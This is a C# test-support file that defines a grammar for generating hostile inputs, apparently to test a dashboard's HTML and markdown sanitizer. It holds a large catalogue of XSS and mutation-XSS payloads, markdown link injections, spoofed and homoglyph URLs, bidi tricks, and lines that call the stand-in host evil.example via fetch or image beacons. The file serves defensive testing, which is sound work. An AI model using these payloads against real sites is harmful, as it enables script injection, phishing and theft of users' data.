namespace Duyetbot.Dashboard.TestSupport;

/// <summary>The rules behind <see cref="HostileTexts"/>: a name in braces stands for one of its own alternatives.</summary>
internal static class HostileGrammar
{
    public static readonly string[] Scripts =
    [
        "hit(1)", "hit(1)", "hit`1`", "window['hit'](1)", "(0,hit)(1)", "top.hit(1)", "parent.hit(1)", "hit(1);//", "fetch('https://evil.example/f'),hit(1)", "hit(new Image().src='//evil.example/i')",
    ];

    public static readonly string[] Handlers =
    [
        "onerror", "onload", "onfocus", "onfocusin", "onclick", "onmouseover", "onmouseenter", "onpointerover", "ontoggle", "onbeforetoggle", "onstart", "onbegin", "onanimationstart", "oninput",
        "ONERROR", "OnLoad", "onsubmit", "onwheel", "onscroll", "onresize", "onhashchange", "onpageshow", "oncopy", "onloadstart",
    ];

    public static readonly string[] Addresses =
    [
        "https://evil.example/x", "http://evil.example/x.png", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example/x", "https:evil.example", "https:/evil.example/x", "https://bank.example@evil.example/", "https://evil.example\\@bank.example/",
        "https://bank.example%2f@evil.example/", "https://ev%69l.example/", "https://evil\u3002example/", "https://\uff45vil.example/", "https://evil.exam\tple/", "https://\u0435vil.example/", "https://evil.example:443#@bank.example", "http://0x7f.1/", "http://2130706433/",
        "http://[::ffff:7f00:1]/", "https://evil.example./", "https://bank.example\u202e.evil.example/", "https://evil.example?https://bank.example", "ftp://evil.example/", "blob:https://evil.example/1", "file:///etc/passwd", "about:srcdoc", "ws://evil.example/", "mailto:a@evil.example?body=<script>hit(1)</script>", "#x", "?x", "/logout",
    ];

    public static readonly Dictionary<string, string[]> Rules = new(StringComparer.Ordinal)
    {
        ["text"] = ["{html}", "{html}", "{html}", "{markdown}", "{markdown}", "{mutation}", "{mixed}", "{broken}"],
        ["leaf"] = ["<img src=x onerror=hit(1)>", "[x](javascript:hit(1))", "<script>hit(1)</script>"],
        ["word"] = ["html", "svg", "js\" onclick=\"hit(1)", "x{zero}", "</pre><img src=x onerror=hit(1)>", "\u202ex", "cs", "{on}"],
        ["gap"] = [" ", "/", "\t", "\f", " / ", "{nl}", "/x/", "\"\"", " x=\"", "{zero}"],
        ["html"] =
        [
            "<script>{js}</script>", "<script{gap}src=\"{url}\"></script>", "<SCRIPT>{js}</SCRIPT >", "<script type=module>{js}</script>", "<script>//<![CDATA[{nl}{js}//]]></script>",
            "<img src=x{gap}{on}>", "<img{gap}src=\"{url}\">", "<img srcset=\"https://evil.example/x 1x\">", "<image src=x {on}>", "<picture><source srcset=//evil.example/x><img src=x></picture>",
            "<svg{gap}{on}>", "<svg><script>{js}</script></svg>", "<svg><script href=\"{url}\"/></svg>", "<svg><a xlink:href=\"{url}\"><text y=20>x</text></a></svg>", "<svg><a><animate attributeName=href values=\"{url}\"/><text y=20>x</text></a></svg>",
            "<svg><use href=\"{url}#x\"/></svg>", "<svg><image href=\"https://evil.example/s\"/></svg>", "<svg><foreignObject><iframe src=\"{url}\"></iframe></foreignObject></svg>", "<svg><set attributeName=onmouseover to=\"{js}\"/></svg>", "<svg><style>@import 'https://evil.example/s.css';</style></svg>",
            "<math href=\"{url}\">x</math>", "<math><maction actiontype=\"statusline#{url}\" xlink:href=\"{url}\">x</maction></math>", "<math><mtext><img src=x {on}></mtext></math>",
            "<iframe src=\"{url}\"></iframe>", "<iframe srcdoc=\"<script>parent.hit(1)</script>\"></iframe>", "<iframe srcdoc=\"&lt;img src=x onerror=parent.hit(1)&gt;\"></iframe>", "<iframe {on}></iframe>", "<frameset onload=hit(1)><frame src=\"{url}\">",
            "<object data=\"{url}\"></object>", "<embed src=\"{url}\">", "<applet code=\"{url}\">", "<portal src=\"{url}\">", "<fencedframe src=\"{url}\">",
            "<form action=\"{url}\"><button>x</button></form>", "<form><button formaction=\"{url}\">x</button></form>", "<form id=f action=//evil.example/f></form><button form=f>x</button>", "<input type=image src=//evil.example/i {on}>", "<input autofocus {on}>", "<isindex action=\"{url}\" type=submit>",
            "<meta http-equiv=refresh content=\"0;url={url}\">", "<meta http-equiv=\"refresh\" content=\"0;https://evil.example/m\">", "<meta http-equiv=Set-Cookie content=a=b>", "<base href=\"https://evil.example/\">", "<base target=_top href=\"{url}\"><a href=x>x</a>",
            "<link rel=stylesheet href=\"https://evil.example/l.css\">", "<link rel={q}preload{q} as=image href=https://evil.example/p>", "<link rel=modulepreload href=//evil.example/m.js>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=manifest href=//evil.example/m>",
            "<style>@import \"https://evil.example/s.css\";</style>", "<style>*{background:url(https://evil.example/b)}</style>", "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>", "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=hit(1)>x</b>",
            "<div style=\"background:url(https://evil.example/d)\">x</div>", "<b style=\"background-image:image-set('//evil.example/b' 1x)\">x</b>", "<p style=\"width:expression(hit(1))\">x</p>", "<ul style=\"list-style:url(//evil.example/u)\"><li>x</ul>", "<div style=\"position:fixed;inset:0\" {on}>x</div>",
            "<table background=//evil.example/t><td background=//evil.example/td>x</table>", "<body background=//evil.example/b {on}>", "<html {on}>", "<video src=//evil.example/v poster=//evil.example/p {on}></video>", "<video><source {on}></video>", "<audio src=x {on}></audio>", "<track src=//evil.example/t {on}>",
            "<details open {on}><summary>x</summary></details>", "<marquee {on}>x</marquee>", "<select autofocus {on}>", "<textarea autofocus {on}></textarea>", "<keygen autofocus {on}>", "<dialog open {on}>x</dialog>", "<button popovertarget=x>x</button><div popover id=x {on}>x</div>",
            "<a href=\"{url}\">x</a>", "<a{gap}href={url}>x</a>", "<a href=https://evil.example ping=//evil.example/ping>x</a>", "<a href=\"{url}\" target=_top>x</a>", "<map name=m><area href=\"{url}\" shape=default></map><img usemap=#m src=x>", "<a href=# {on}>x</a>",
            "<x{gap}{on}>x", "<x tabindex=1 autofocus id=x {on}>x</x>", "<xss style=display:block {on}>x</xss>", "<b{gap}{on}>x</b>", "<button class=copy data-copy=x {on}>x</button>", "<div class=\"plain modal\" id=app data-x=1 {on}>x</div>", "<bdo dir=rtl {on}>x</bdo>",
            "<template>{html}</template>", "<template shadowrootmode=open>{html}</template>", "<noscript>{html}</noscript>", "<title>{html}</title>", "<textarea>{html}</textarea>", "<xmp>{html}</xmp>", "<noembed>{html}</noembed>", "<noframes>{html}</noframes>", "<plaintext>{html}",
        ],
        ["q"] = ["\"", "'", ""],
        ["mutation"] =
        [
            "<noscript><p title=\"</noscript>{html}\">", "<svg><style><img src=x onerror=hit(1)></style></svg>", "<svg></p><style><a id=\"</style><img src=1 onerror=hit(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(1)>", "<math><annotation-xml encoding=\"text/html\"><style>{html}</style></annotation-xml></math>", "<svg><desc><noembed></svg><noembed>{html}</noembed></noembed>", "<select><template><style><!--</style><a rel=\"--></style></template></select>{html}\">",
            "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>", "<xmp></xmp><p title=\"</xmp>{html}\">", "<iframe><p title=\"</iframe>{html}\">", "<title><p title=\"</title>{html}\">", "<textarea><p title=\"</textarea>{html}\">", "<svg><title><style>{html}</style></title></svg>", "<img alt=\"`><img src=x onerror=hit(1)>`\">",
            "<table><td><svg><desc><td></desc><style>{html}</style>", "<a><table><a>{html}", "<b><p><b><p>{html}</b></b>", "<svg><p><style><g title=\"</style>{html}\">", "<math><p></p><style><!--</style>{html}--></style></math>", "<p title=\"--!>{html}\"><!--", "<math><mi//xlink:href=\"{url}\">", "<svg/><![CDATA[><img src=x onerror=hit(1)>]]>",
            "<div>{deep}<img src=x {on}>", "<d<script>iv>{html}", "<scr<script>ipt>{js}</scr</script>ipt>", "<<script>{js}//<</script>", "<img \"\"\"><script>{js}</script>\">", "<!--><img src=x onerror=hit(1)>-->", "<!-- --!><img src=x onerror=hit(1)>-->", "<?xml-stylesheet href=\"{url}\"?>{html}", "</br {on}>", "</p {on}>x",
        ],
        ["deep"] = ["<b><i><u><s><b><i><u><s><b><i><u><s>", "<svg><g><g><g><foreignObject>", "<table><tr><td><table><tr><td>", "<blockquote><ul><li><ol><li>"],
        ["markdown"] =
        [
            "[x]({url})", "[x](<{url}>)", "[x]({url} \"x\" {on})", "[x]({url} 'x\" onclick=\"hit(1)')", "![x]({url})", "![x](https://evil.example/i.png)", "![{html}](x)", "[![x](//evil.example/i)]({url})", "<{url}>", "[x][1]{nl}{nl}[1]: {url}", "[x]{nl}{nl}[x]: <{url}> 'x\" onmouseover=\"hit(1)'", "![x][1]{nl}{nl}[1]: https://evil.example/i.png",
            "[{html}]({url})", "[`{html}`]({url})", "[x](https://evil.example/\" onmouseover=\"hit(1))", "[x](https://evil.example/'onmouseover='hit(1))", "[https://bank.example]({url})", "[https://bank.example/?evil.example](https://evil.example/)", "[{bidi}https://bank.example](https://evil.example/)", "[x (bank.example)]({url})", "https://evil.example/{bidi}x", "https://evil.example/?<img{gap}src=x{gap}{on}>",
            "www.evil.example/{html}", "a@evil.example", "<a@evil.example\" {on}>", "[x](\\{url})", "\\[x]({url})", "[x\\]({url})", "[a[b[c]({url})]({url})]({url})", "*[x*]({url})", "[x]({url}{nl}{nl})", "[x](<{url}{nl}>)", "[x]:{url}{nl}[x]", "[^1]{nl}{nl}[^1]: {html}", "*[x]: {html}{nl}x", "[x]{.a onclick=hit(1)}", "# x {#a onclick=hit(1)}", ":::x {{on}}{nl}{html}{nl}:::",
        ],
        ["mixed"] =
        [
            "> {text}", "- {text}", "1. {text}{nl}   {text}", "| {html} | {markdown} |{nl}|---|--:|{nl}| {html} | {markdown} |", "# {text}", "**{html}**", "~~{markdown}~~", "`{html}`", "`` ` {html} ``", "```{word}{nl}{html}{nl}```", "~~~{word}{nl}{html}", "    {html}", "\t{html}", "{html}{bidi}{markdown}", "{text}{nl}{nl}{text}", "{text}{nl}===", "***{text}***{nl}{nl}---", "- [ ] {html}",
            "```xml{nl}<a href=\"{url}\">{html}</a>{nl}```", "```html{nl}<!-- {html} -->{nl}{html}{nl}```", "```js{nl}`${{html}}`;/*{html}*/{nl}```", "```sql{nl}-- {html}{nl}'{html}'{nl}```", "```json{nl}{\"{html}\":\"{url}\"}{nl}```",
        ],
        ["broken"] =
        [
            "&lt;script&gt;{js}&lt;/script&gt;", "&amp;lt;img src=x onerror=hit(1)&amp;gt;", "{html}{zero}{html}", "<!-- {html} -->{html}", "<![CDATA[{html}]]>", "<?php {html} ?>", "<!DOCTYPE x [{html}]>", "<img src=x{zero}onerror=hit(1)>", "<{zero}script>{js}</script>", "\ufeff{html}", "\ud800{html}\udfff", "\u2028{html}\u2029", "<img src=\"x\" title='\"{on}'>", "<img src=x onerror=hit(1)", "\"><img src=x {on}>", "'><script>{js}</script>", "--><script>{js}</script>", "</style></script></title></textarea><img src=x onerror=hit(1)>", "]]><script>{js}</script>", "+ADw-script+AD4-hit(1)+ADw-/script+AD4-", "%3Cscript%3E{js}%3C/script%3E", "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "\uff1cscript\uff1e{js}\uff1c/script\uff1e", "${{js}}{{{js}}}", "<a\u2028href=\"{url}\">x</a>", "{bidi}{html}{bidi}",
        ],
        ["bidi"] = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u202c", "\u200f", "\u061c", "\u202e\u2066"],
    };
}
